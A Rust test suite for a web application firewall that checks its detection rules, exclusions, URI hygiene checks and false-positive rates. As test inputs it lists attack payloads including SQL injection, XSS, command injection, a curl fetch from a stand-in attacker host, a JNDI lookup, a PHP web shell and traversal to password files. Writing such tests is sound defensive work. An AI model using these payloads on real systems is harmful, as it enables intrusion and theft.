use super::*;

fn engine() -> Engine {
    Engine::new(1, &[]).unwrap()
}

fn arg(value: &str) -> Vec<Item<'static>> {
    vec![Item::new(target::ARG_VALUES, b"q".to_vec(), value.as_bytes().to_vec())]
}

fn blocked(e: &Engine, value: &str) -> bool {
    e.inspect(&arg(value), &Exclusions::default(), u32::MAX).score >= DEFAULT_THRESHOLD
}

#[test]
fn classic_attacks_are_blocked_with_rule_and_fragment() {
    let e = engine();
    let v = e.inspect(&arg("1' UNION/**/SELECT password FROM users--"), &Exclusions::default(), u32::MAX);
    assert!(v.score >= DEFAULT_THRESHOLD);
    let m = v.matches.iter().find(|m| m.id == 942100).expect("union select");
    assert_eq!(m.target, "args:q");
    assert_eq!(m.family, Family::Sqli);
    assert!(m.fragment.contains("union"), "{}", m.fragment);
    for attack in [
        "<script>alert(1)</script>",
        "%3Csvg%2Fonload%3Dalert(1)%3E",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('XSS')>",
        "; cat /etc/passwd",
        "$(curl http://evil.example/x.sh)",
        "../../../../etc/shadow",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "php://filter/convert.base64-encode/resource=index",
        "${jndi:ldap://evil.example/a}",
        "{\"__proto__\":{\"admin\":true}}",
        "<?php system($_GET['c']); ?>",
        "admin'--",
        "1 AND SLEEP(5)",
        "x\r\nSet-Cookie: evil=1",
    ] {
        assert!(blocked(&e, attack), "not blocked: {attack}");
    }
}

#[test]
fn everyday_values_pass() {
    let e = engine();
    for benign in [
        "O'Brien",
        "rock'n'roll",
        "select the best option from the list",
        "Tom & Jerry",
        "C++ and C# developers",
        "price < 100 and rating > 4",
        "john.doe+shop@example.com",
        "https://example.com/products?id=42&sort=price",
        "What's the difference between 'and' and 'or'?",
        "2024-01-31T12:00:00Z",
        "I can't login -- please help",
        "Home | About | Contact",
        "find a doctor near me",
        "type of cat food",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl",
        "550e8400-e29b-41d4-a716-446655440000",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    ] {
        let v = e.inspect(&arg(benign), &Exclusions::default(), u32::MAX);
        assert!(v.score < DEFAULT_THRESHOLD, "blocked benign {benign:?}: {:?}", v.matches);
    }
}

#[test]
fn paranoia_adds_rules() {
    let p1 = Engine::new(1, &[]).unwrap();
    let p3 = Engine::new(3, &[]).unwrap();
    assert!(p3.rule_count() > p1.rule_count());
    let value = "select name from customers";
    assert!(!blocked(&p1, value));
    assert!(p3.inspect(&arg(value), &Exclusions::default(), u32::MAX).score > 0);
}

#[test]
fn exclusions_by_id_tag_and_target() {
    let e = engine();
    let attack = "1' UNION SELECT 1 OR 1=1--";
    let items = vec![
        Item::new(target::ARG_VALUES, b"q".to_vec(), attack.as_bytes().to_vec()),
        Item::new(target::ARG_VALUES, b"other".to_vec(), b"<script>x".to_vec()),
    ];
    let mut by_target = Exclusions::default();
    by_target.add(&["target=args:q"]).unwrap();
    let v = e.inspect(&items, &by_target, u32::MAX);
    assert!(v.matches.iter().all(|m| m.target == "args:other"), "{v:?}");

    let mut by_tag = Exclusions::default();
    by_tag.add(&["tag=sqli", "target=args:q"]).unwrap();
    let v = e.inspect(&items, &by_tag, u32::MAX);
    assert!(v.matches.iter().all(|m| m.family != Family::Sqli));
    assert!(v.matches.iter().any(|m| m.family == Family::Xss), "other arg still inspected");

    let mut by_id = Exclusions::default();
    by_id.add(&["id=942100"]).unwrap();
    let v = e.inspect(&items, &by_id, u32::MAX);
    assert!(v.matches.iter().all(|m| m.id != 942100));
    assert!(v.matches.iter().any(|m| m.family == Family::Sqli), "other SQL rules still apply: {v:?}");

    assert!(Exclusions::default().add(&["bogus=1"]).is_err());
    assert!(Exclusions::default().add(&["target=nowhere:x"]).is_err());
}

#[test]
fn custom_rules_from_file_and_directive() {
    let file = r#"[{"id": 100001, "msg": "no internal hosts", "targets": ["args"], "transforms": ["url_decode", "lowercase"],
                   "pattern": "intranet\\.corp", "score": 5, "tags": ["ssrf"]}]"#;
    let mut custom = rules::parse_rules_file(file).unwrap();
    custom.push(rules::parse_rule_args(&["id=100002", "pattern=forbidden-word", "targets=body"]).unwrap());
    let e = Engine::new(1, &custom).unwrap();
    assert!(blocked(&e, "http://INTRANET%2Ecorp/admin"));
    let body = vec![Item::new(target::BODY_VALUES, b"c".to_vec(), b"a forbidden-word here".to_vec())];
    assert!(e.inspect(&body, &Exclusions::default(), u32::MAX).score >= 5);
    assert!(!blocked(&e, "forbidden-word"), "rule 100002 targets the body only");

    let err = rules::parse_rule_args(&["id=100003", "pattern=(unclosed"]).unwrap_err().to_string();
    assert!(err.contains("100003"), "{err}");
    assert!(rules::parse_rules_file("[{\"id\": 1}]").is_err(), "pattern is required");
    assert!(rules::parse_rule_args(&["pattern=x"]).is_err(), "id is required");
    let dup = rules::parse_rule_args(&["id=942100", "pattern=x"]).unwrap();
    assert!(Engine::new(1, &[dup]).err().unwrap().contains("duplicate"));
}

#[test]
fn hygiene_checks() {
    let l = Limits::default();
    assert_eq!(check_uri(&l, b"/a/b?x=1&y=2"), Ok(()));
    assert_eq!(check_uri(&l, b"/a%zz"), Err(Hygiene::BadEncoding));
    assert_eq!(check_uri(&l, b"/a%00.php"), Err(Hygiene::NullByte));
    assert_eq!(check_uri(&l, b"/static/..%2f..%2fetc/passwd"), Err(Hygiene::Traversal));
    assert_eq!(check_uri(&l, b"/static/%c0%ae%c0%ae/x"), Err(Hygiene::Traversal));
    assert_eq!(check_uri(&l, b"/a\\..\\b"), Err(Hygiene::Traversal));
    let long = format!("/{}", "a".repeat(33 * 1024));
    assert_eq!(check_uri(&l, long.as_bytes()), Err(Hygiene::UriTooLong));
    // The defaults pass anything nginx's default buffers let through (32k of HTTP/2 headers).
    let full = format!("/?{}={}&{}", "n".repeat(8000), "v".repeat(8000), "a&".repeat(8000));
    assert_eq!(check_uri(&l, full.as_bytes()), Ok(()));
    let mut few = Limits::default();
    few.set("args=5").unwrap();
    assert_eq!(check_uri(&few, b"/?a&b&c&d&e&f"), Err(Hygiene::TooManyArgs));
    assert_eq!(few.set("args=0").unwrap_err().to_string(), "invalid args \"0\", it must be between 1 and 1000000");
    assert!(few.set("uri=1g").is_err() && few.set("headers=99999999999999999999").is_err());
    assert!(scanner(b"sqlmap/1.7.2#stable (https://sqlmap.org)"));
    assert!(!scanner(b"Mozilla/5.0 (X11; Linux x86_64)"));
    assert!(scanner(b"Mozilla/5.0 (compatible; NUCLEI - Open-source project)"), "case-insensitive");
    for name in SCANNERS {
        assert!(scanner(format!("x {} y", name.to_ascii_uppercase()).as_bytes()), "{name}");
    }
    let mut custom = Limits::default();
    custom.set("uri=64").unwrap();
    assert_eq!(check_uri(&custom, &[b'a'; 65]), Err(Hygiene::UriTooLong));
    assert!(custom.set("nope=1").is_err());
}

#[test]
fn inspection_time_is_linear_on_hostile_input() {
    // Patterns that make backtracking engines explode are plain work for the automata: this
    // only checks the engine returns on large pathological values (no time assertion).
    let e = engine();
    for hostile in ["'".repeat(60_000), "<a ".repeat(20_000), "%".repeat(60_000), "((((".repeat(15_000)] {
        let _ = e.inspect(&arg(&hostile), &Exclusions::default(), u32::MAX);
    }
}

/// The payload lists in tests/data/payloads (with their licences), evaluated offline (the end-to-end version through nginx is
/// `scripts/waf-eval.sh`). Families are judged on all their lists together.
#[test]
fn payload_lists_detection_and_false_positives() {
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/payloads");
    let entries = std::fs::read_dir(dir).unwrap_or_else(|e| panic!("payload lists at {dir}: {e}"));
    let e = engine();
    let mut families: std::collections::BTreeMap<String, (usize, usize)> = Default::default();
    let mut benign = (0, 0, Vec::new());
    let mut files: Vec<_> = entries.flatten().map(|e| e.path()).collect();
    files.sort();
    let corpus = std::path::PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/scripts/waf-eval-corpus/benign.txt"));
    files.push(corpus);
    for path in files {
        let name = path.file_name().unwrap().to_string_lossy().to_string();
        if !name.ends_with(".txt") {
            continue;
        }
        let text = std::fs::read(&path).unwrap();
        let is_benign = name.starts_with("benign");
        let family = name.split("--").next().unwrap().to_string();
        for line in text.split(|&b| b == b'\n').map(|l| l.strip_suffix(b"\r").unwrap_or(l)).filter(|l| !l.is_empty()) {
            let items = vec![Item::new(target::ARG_VALUES, b"q".to_vec(), line.to_vec())];
            let v = e.inspect(&items, &Exclusions::default(), u32::MAX);
            let hit = v.score >= DEFAULT_THRESHOLD;
            if is_benign {
                benign.0 += 1;
                if hit {
                    benign.1 += 1;
                    benign.2.push(format!("{} [{}]", String::from_utf8_lossy(line), v.rule_ids()));
                }
            } else {
                if !hit && std::env::var_os("SHIELD_WAF_DEBUG").is_some() {
                    println!("MISS {family}: {}", String::from_utf8_lossy(line));
                }
                let f = families.entry(family.clone()).or_default();
                f.0 += 1;
                f.1 += usize::from(hit);
            }
        }
    }
    println!("family                 blocked/total   rate");
    for (family, (total, hit)) in &families {
        println!("{family:22} {hit:>6}/{total:<6} {:6.1}%", 100.0 * *hit as f64 / *total as f64);
    }
    println!(
        "benign false positives {}/{} ({:.2}%): {:?}",
        benign.1,
        benign.0,
        100.0 * benign.1 as f64 / benign.0 as f64,
        benign.2
    );
    for (family, (total, hit)) in &families {
        assert!(*hit as f64 >= 0.95 * *total as f64, "{family}: {hit}/{total} below 95%");
    }
    assert!(benign.1 as f64 <= 0.01 * benign.0 as f64, "false positives above 1%: {:?}", benign.2);
}

/// Plain words (`[A-Za-z0-9_-]`) that built-in rules match: the fast path must not skip them,
/// at any paranoia level. Before the fast path was derived from the rules, all passed.
#[test]
fn plain_words_that_rules_match_are_still_inspected() {
    for paranoia in 1..=4 {
        let e = Engine::new(paranoia, &[]).unwrap();
        for word in ["__proto__", "information_schema", "pg_catalog", "whoami", "Li4vZXRjL3Bhc3N3ZA"] {
            assert!(blocked(&e, word), "paranoia {paranoia}: not blocked: {word}");
        }
        for body in [&br#"{"__proto__":{"isAdmin":true}}"#[..], br#"{"constructor":{"prototype":{"isAdmin":true}}}"#] {
            let mut items = Vec::new();
            extract::body(b"application/json", body, &mut items);
            let v = e.inspect(&items, &Exclusions::default(), u32::MAX);
            assert!(
                v.score >= DEFAULT_THRESHOLD && v.matches.iter().any(|m| m.id == 934100),
                "paranoia {paranoia}: {v:?}"
            );
        }
    }
}

/// The fast path still applies where it is sound: most pipelines skip plain values, and
/// plain benign values pass.
#[test]
fn fast_path_skips_pipelines_no_rule_can_match_on_plain_words() {
    let e = engine();
    let (pipelines, scanned) = e.plain_scans();
    assert!(scanned < pipelines, "{scanned} of {pipelines} pipelines scan plain values");
    for benign in ["hello", "user_42", "550e8400-e29b-41d4-a716-446655440000", "select", "prototype", "constructor"] {
        assert!(!blocked(&e, benign), "{benign}");
    }
    // A custom rule on a plain word is honoured (the old fast path was switched off for any
    // custom rule; now it is derived per pipeline).
    let custom = rules::parse_rule_args(&["id=100010", "pattern=^letmein$", "transforms=lowercase"]).unwrap();
    let e = Engine::new(1, &[custom]).unwrap();
    assert!(blocked(&e, "LetMeIn"));
}

/// Numbers are range-checked, never wrapped (`paranoia=257` was accepted as 1), and a rules
/// file's errors name the rule's own line.
#[test]
fn rule_numbers_are_range_checked_and_file_errors_have_the_rule_line() {
    for (arg, expected) in [
        ("paranoia=257", "invalid paranoia \"257\", it must be between 1 and 4"),
        ("paranoia=0", "invalid paranoia \"0\""),
        ("score=10000", "invalid score \"10000\", it must be between 0 and 9999"),
        ("id=4294967296", "invalid id \"4294967296\""),
    ] {
        let args = if arg.starts_with("id=") { vec![arg, "pattern=x"] } else { vec!["id=100001", "pattern=x", arg] };
        assert_eq!(
            rules::parse_rule_args(&args).unwrap_err().to_string().split(',').next(),
            expected.split(',').next(),
            "{arg}"
        );
    }
    let file = "[\n  {\"id\": 100001, \"pattern\": \"a\"},\n\n  {\"id\": 100002,\n   \"pattern\": \"b\", \"paranoia\": 257}\n]";
    assert_eq!(
        rules::parse_rules_file(file).unwrap_err(),
        (4, "invalid paranoia \"257\", it must be between 1 and 4".to_string())
    );
    let file = "[{\"id\": 1, \"pattern\": \"a\"},\n {\"id\": 2, \"pattern\": \"(x\"}]";
    let (line, msg) = rules::parse_rules_file(file).unwrap_err();
    assert_eq!(line, 2, "{msg}");
    assert!(msg.starts_with("rule 2: invalid pattern"), "{msg}");
    let file = r#"[{"id": 1, "pattern": "a\" ]"}, {"id": 3, "pattern": "c"},
 {"id": 1, "pattern": "b"}]"#;
    assert_eq!(rules::parse_rules_file(file).unwrap_err(), (2, "rule 1 is duplicate".to_string()));
    assert_eq!(rules::parse_rules_file("[\n{\"id\": 1,\n \"patern\": 1}]").unwrap_err().0, 2);
    assert_eq!(rules::parse_rules_file("[\n\n{oops").unwrap_err().0, 3, "serde's own line for bad JSON");
}

/// The fixed-point union scan (one scan for a value no transform changes) gives the same
/// verdict as scanning pipeline by pipeline, over every payload list, the benign corpus and
/// values picked to be fixed points of every transform, at every paranoia level.
#[test]
fn fixed_point_union_changes_no_verdict() {
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/payloads");
    let mut files: Vec<_> = std::fs::read_dir(dir).unwrap().flatten().map(|e| e.path()).collect();
    files.push(concat!(env!("CARGO_MANIFEST_DIR"), "/scripts/waf-eval-corpus/benign.txt").into());
    let mut values: Vec<Vec<u8>> = vec![
        b"__proto__".to_vec(),
        b"constructor.prototype".to_vec(),
        b"information_schema".to_vec(),
        b"pg_catalog".to_vec(),
        b"jane@example.com".to_vec(),
        b"8f14e45fceea167a5a36dedd4bea2543".to_vec(),
        b"union select 1,2 from users".to_vec(),
        b"<script>alert(1)</script>".to_vec(),
    ];
    for path in files.iter().filter(|p| p.extension().is_some_and(|x| x == "txt")) {
        let text = std::fs::read(path).unwrap();
        values.extend(text.split(|&b| b == b'\n').filter(|l| !l.is_empty()).map(<[u8]>::to_vec));
    }
    let (mut fixed_points, mut lower_only) = (0, 0);
    for paranoia in [1, 2, 4] {
        let union = Engine::new(paranoia, &[]).unwrap();
        let per_pipeline = Engine::new(paranoia, &[]).unwrap().without_fixed_point();
        for v in &values {
            for target in [target::ARG_VALUES, target::HEADERS, target::BODY_VALUES, target::COOKIES] {
                let items = vec![Item::new(target, b"q".to_vec(), v.clone())];
                let mut a = union.inspect(&items, &Exclusions::default(), u32::MAX);
                let mut b = per_pipeline.inspect(&items, &Exclusions::default(), u32::MAX);
                a.matches.sort_by_key(|m| m.id);
                b.matches.sort_by_key(|m| m.id);
                assert_eq!(a, b, "paranoia {paranoia}, {:?}", String::from_utf8_lossy(v));
            }
            let t = transform::Traits::of(v);
            let changing: Vec<_> =
                union.fixed.as_ref().unwrap().transforms.iter().filter(|&&x| !t.unchanged_by(x)).collect();
            match changing[..] {
                [] => fixed_points += 1,
                [Transform::Lowercase] => lower_only += 1,
                _ => {}
            }
        }
    }
    assert!(fixed_points > 100, "the corpus exercises the union: {fixed_points} fixed points");
    assert!(lower_only > 100, "and the two-scan case: {lower_only} values only Lowercase changes");
}
